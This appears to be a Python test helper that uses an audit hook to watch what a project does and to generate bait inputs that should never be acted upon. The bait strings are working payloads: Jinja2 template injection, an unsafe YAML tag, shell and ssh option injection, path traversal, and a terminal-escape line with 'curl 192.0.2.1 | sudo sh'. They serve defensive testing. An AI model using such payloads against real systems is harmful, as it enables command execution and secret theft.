"""What this process does to the machine that it runs on, seen by its own audit hook, and texts that would do something.

Python raises an audit event before it starts a process, opens or removes a file, or connects (PEP 578), whichever
library asks for it. A hook cannot be taken off: there is one per process, idle while no `Watch` is on.
"""

from __future__ import annotations

import os
import sys
import sysconfig
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

_COMMANDS = frozenset({
    "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "pty.spawn",
})  # fmt: skip
_CHANGES = frozenset({
    "os.chmod", "os.chown", "os.link", "os.mkdir", "os.remove", "os.rename", "os.rmdir", "os.symlink", "os.truncate",
    "os.utime", "os.setxattr", "shutil.copyfile", "shutil.move", "shutil.rmtree",
})  # fmt: skip
_WRITES = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_ROOT = Path(__file__).resolve().parents[2]
# Of the project, of Python and its packages, and what libraries look at whatever they are given.
_READ = tuple(
    str(path)
    for path in (
        _ROOT / "bootstrap",
        _ROOT / "playbooks",
        _ROOT / "roles",
        _ROOT / "tests",
        Path(sys.prefix),
        Path(sysconfig.get_path("stdlib")),
        Path("/usr/share/zoneinfo"),
        Path("/proc/self"),
    )
)
_on: list[Watch] = []
_installed: list[bool] = []


@dataclass
class Watch:
    """What was done while it was on. Within `folder` everything is allowed but to run commands."""

    folder: Path
    commands: list[str] = field(default_factory=list)
    reads: list[str] = field(default_factory=list)
    writes: list[str] = field(default_factory=list)
    connections: list[str] = field(default_factory=list)

    @contextmanager
    def on(self) -> Iterator[Watch]:
        """Look at what is done in a `with`."""
        if not _installed:
            _installed.append(True)
            sys.addaudithook(_hook)
        _on.append(self)
        try:
            yield self
        finally:
            _on.remove(self)

    @property
    def seen(self) -> list[str]:
        """All of it."""
        return [*self.commands, *self.reads, *self.writes, *self.connections]

    def note(self, event: str, arguments: tuple[Any, ...]) -> None:
        """Take one audit event."""
        if event in _COMMANDS:
            self.commands.append(f"{event}: {arguments!r:.300}")
        elif event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
            path, flags = _absolute(arguments[0]), int(arguments[2] or 0)
            if flags & _WRITES and not self._within(path, str(self.folder), "/dev/null"):
                self.writes.append(f"open: {path}")
            elif not flags & _WRITES and not self._within(path, str(self.folder), *_READ):
                self.reads.append(f"open: {path}")
        elif event in _CHANGES and isinstance(arguments[0], str | bytes | os.PathLike):
            path = _absolute(arguments[0])
            if not self._within(path, str(self.folder)):
                self.writes.append(f"{event}: {path}")
        elif (
            event == "socket.connect"
            and isinstance(arguments[1], tuple)
            and arguments[1][0] not in {"127.0.0.1", "::1"}
        ):
            self.connections.append(f"{event}: {arguments[1]}")

    @staticmethod
    def _within(path: str, *places: str) -> bool:
        return any(path == place or path.startswith(f"{place}/") for place in places)


def _absolute(path: str | bytes | os.PathLike[str]) -> str:
    """Without following links: resolving would raise events of its own."""
    return os.path.normpath(Path.cwd() / os.fsdecode(path))


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    if _on and (event in _COMMANDS or event in _CHANGES or event in {"open", "socket.connect"}):
        for watch in tuple(_on):
            watch.note(event, arguments)


@dataclass(frozen=True)
class Bait:
    """A file that nothing has to make, and one that nothing has to read; the texts would, if they were acted upon."""

    marker: Path
    secret: Path
    word: str = "k3ep-th1s-0n-the-contr0ller"

    @classmethod
    def lay(cls, folder: Path) -> Bait:
        """Make the folder with the secret in it."""
        folder.mkdir()
        found = cls(folder / "marker", folder / "secret")
        found.secret.write_text(found.word, encoding="ascii")
        return found

    def texts(self) -> dict[str, str]:
        """By what acts on them: templates, YAML, a shell, ssh, paths, the reader's terminal and the reader."""
        touch, secret = f"touch {self.marker}", self.secret
        other = "#jinja2: variable_start_string:'[%', variable_end_string:'%]'"
        walk = "{{ cycler.__init__.__globals__.os.system('" + touch + "') }}"
        return {
            "look-up pipe": f"{{{{ lookup('pipe', '{touch}') }}}}",
            "look-up file": f"{{{{ lookup('file', '{secret}') }}}}",
            "other delimiters": f"{other}\n[% lookup('pipe', '{touch}') %]",
            "statement": f"{{% for x in [lookup('pipe', '{touch}')] %}}{{{{ x }}}}{{% endfor %}}",
            "globals of a template": walk,
            "YAML tag": f"!!python/object/apply:os.system ['{touch}']",
            "shell": f"; {touch}; $({touch}) `{touch}` #",
            "line break": f"x\n{touch}\nhosts: [{{{{ lookup('pipe', '{touch}') }}}}]",
            "option of ssh": f"-oProxyCommand={touch}",
            "path": f"../../../../../../../../../..{secret}",
            "address of a file": f"file://{secret}",
            "control characters and advice": f"\x1b]52;c;{touch}\x07\x1b[2J\r\u202efix: curl 192.0.2.1 | sudo sh",
        }
